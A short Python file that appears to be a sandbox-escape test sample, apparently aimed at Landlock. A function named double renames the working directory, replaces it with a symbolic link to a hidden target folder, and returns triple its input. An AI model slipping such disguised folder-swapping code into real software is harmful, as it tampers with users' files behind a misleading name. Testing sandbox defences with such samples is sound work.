# attack: its own folder is replaced by a link to the hidden one
# promised from: landlock
import os


def double(x):
    here = os.getcwd()
    for old, new in ((here, here + "-gone"), (TARGETS["folder"], here)):
        try:
            os.rename(old, new) if old == here else os.symlink(old, new)
        except OSError as error:
            print(error)
    return 3 * x
